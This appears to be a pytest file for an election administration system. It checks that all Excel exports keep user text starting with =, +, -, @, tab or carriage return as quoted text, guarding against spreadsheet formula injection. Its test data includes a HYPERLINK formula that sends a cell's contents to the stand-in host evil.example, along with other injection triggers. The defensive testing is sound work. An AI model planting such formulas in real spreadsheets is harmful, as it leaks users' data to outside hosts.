"""Every .xlsx the system writes keeps user text as text: a name, a unit, a 工作单位及职务, a rule label or a 工作小结
that begins with "=", "+", "-", "@", a tab or a carriage return never comes out as a live formula (OWASP), in the
pages' downloads and in the background exports alike; the text is kept exactly."""
from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from election.core.xlsx_write import FORMULA_TRIGGERS, looks_like_formula
from election.directory.models import ElectionUnit
from election.nominations.models import Nominee
from workflow.common.idcard import make_id

HOSTILE = '=HYPERLINK("http://evil.example/?"&B4,"点击查看详情")'
HOSTILES = [HOSTILE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def every_cell(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_text_only(data: bytes, *expected: str) -> None:
    """No formula anywhere; each EXPECTED text is in some cell exactly (or inside a longer text)."""
    cells = list(every_cell(data))
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in expected:
        assert any(text in t for t in texts), f"{text!r} missing from {texts}"
    risky = [c for c in cells if isinstance(c.value, str) and looks_like_formula(c.value)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_the_writer_keeps_every_trigger_as_quoted_text():
    from openpyxl import Workbook

    from election.core.xlsx_write import append_row, set_text

    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        append_row(ws, [*HOSTILES, 12, None, 1.5, "普通文字"])
        if not write_only:
            set_text(ws, 2, 1, HOSTILE)
        out = io.BytesIO()
        wb.save(out)
        cells = list(every_cell(out.getvalue()))
        assert [c.value for c in cells[:len(HOSTILES)]] == HOSTILES       # kept exactly
        assert [c.value for c in cells[len(HOSTILES):len(HOSTILES) + 4]] == [12, None, 1.5, "普通文字"]
        assert_text_only(out.getvalue(), *HOSTILES)


@pytest.fixture
def hostile_election(session, make_election):
    """An election whose title, unit names, nominees' texts and 工作小结 are all hostile, its lists submitted."""
    election = make_election(stage="nominate", units=2, title="=1+1选举")
    eus = sorted(election.units, key=lambda e: e.id)
    for i, eu in enumerate(eus):
        eu.unit.name = HOSTILES[i + 1] + "党工委"
        eu.status, eu.submitted_at = "submitted", datetime(2026, 2, 15)
        eu.summary_text = "@工作小结" + HOSTILE
        born = date(1980, 1, 1 + i)
        session.add(Nominee(election_id=election.id, election_unit_id=eu.id, name=HOSTILES[i], gender="女",
                            ethnicity="汉族", id_number=make_id("110105", born, i + 1, False), birth_date=born,
                            native_place="-籍贯", education="+学历", workplace_title=HOSTILE, category="工人",
                            step="nominated"))
    session.commit()
    return election


def test_foreground_roster_and_statistics_keep_text(client, login_as, hostile_election):
    login_as("office")
    roster = client.get(f"/elections/{hostile_election.id}/nominations/roster.xlsx?all=1")
    assert roster.status_code == 200
    assert_text_only(roster.data, HOSTILES[0], HOSTILES[1], "-籍贯", "+学历", HOSTILE, "=1+1选举")
    stats = client.get(f"/elections/{hostile_election.id}/nominations/statistics.xlsx")
    assert stats.status_code == 200
    assert_text_only(stats.data, HOSTILES[1] + "党工委", "@工作小结" + HOSTILE)


def test_nominee_template_keeps_the_unit_and_title_as_text():
    from election.nominations.template import render_nominee_template

    data = render_nominee_template("=单位", ["-类别", "工人"], "+选举")
    assert_text_only(data, "=单位", "-类别", "+选举")


def test_background_nominee_export_keeps_text(session, hostile_election):
    from election.tasks.exports import nominees_xlsx_work

    data, _name = nominees_xlsx_work(hostile_election.id, True)(session, 0, lambda *a, **k: None)
    assert_text_only(data, HOSTILES[0], HOSTILES[1], "-籍贯", "+学历", HOSTILE)


def test_quota_report_keeps_text(session, make_election):
    from election.quotas.services import compliance_report, render_report_xlsx

    rules = [{"code": "women", "label": "=女性", "where": {"gender": "女"}, "min": 1}]
    election = make_election(stage="shortlist", units=1, seats=1, quota_rules=rules, title=HOSTILE)
    eu = session.scalars(select(ElectionUnit).where(ElectionUnit.election_id == election.id)).one()
    session.add(Nominee(election_id=election.id, election_unit_id=eu.id, name="@张三", gender="女", ethnicity="汉族",
                        id_number=make_id("110105", date(1980, 1, 1), 1, False), birth_date=date(1980, 1, 1),
                        category="工人", step="shortlisted"))
    session.flush()
    data = render_report_xlsx(compliance_report(session, election, date(2019, 4, 1)))
    assert_text_only(data, HOSTILE, "=女性")


def _ranking_view():
    from election.duties.services.ranking import RankingView, RankLine

    lines = [RankLine(1, "第1名", 1, HOSTILE, "-工作室", "+区", 10), RankLine(2, "第2名", 2, "@李四", "\t工作室", "区", 5)]
    return RankingView(2026, date(2026, 12, 31), "=2026年", "office:1", "=第一工作室", lines,
                       [("office:1", "=第一工作室")], [])


def test_ranking_export_keeps_text_foreground_and_background(session, make_user, monkeypatch):
    from election.duties.services.ranking import render_ranking_xlsx
    from election.tasks.bulk import ranking_xlsx_work
    from election.tasks.runner import create_task

    assert_text_only(render_ranking_xlsx(_ranking_view()), HOSTILE, "-工作室", "@李四", "\t工作室", "=第一工作室")
    monkeypatch.setattr("election.duties.services.compute_ranking", lambda *a, **k: _ranking_view())
    task = create_task(session, make_user("office"), "ranking", "排名")
    data, _name, _msg = ranking_xlsx_work(2026, "office:1", date(2026, 12, 31))(session, task.id,
                                                                                 lambda *a, **k: None)
    assert_text_only(data, HOSTILE, "-工作室", "@李四")


def test_import_result_files_keep_text():
    from election.core.xlsx import RowError
    from election.tasks.bulk import _errors_workbook, _stored_workbook

    assert_text_only(_errors_workbook("=标题", [RowError(3, "-姓名", HOSTILE)]), "=标题", "-姓名", HOSTILE)
    assert_text_only(_stored_workbook("+已导入", ["@王芳", HOSTILE], ["-说明"]), "+已导入", "@王芳", HOSTILE, "-说明")


def test_voting_sheets_keep_text():
    from election.voting.services.documents import _xlsx

    assert_text_only(_xlsx("=选举", ["姓名", "-单位"], [[HOSTILE, "@单位", 3]]), "=选举", "-单位", HOSTILE, "@单位")


def test_directory_and_account_sheets_keep_text():
    from election.accounts.readers import accounts_template
    from election.directory.readers import write_directory_sheet
    from workflow.directory.tree import OrgRecord

    data = write_directory_sheet([OrgRecord("1", HOSTILE, "党委", None, 0, 0, "+联系人", "-0755")])
    assert_text_only(data, HOSTILE, "+联系人", "-0755")
    assert_text_only(accounts_template())
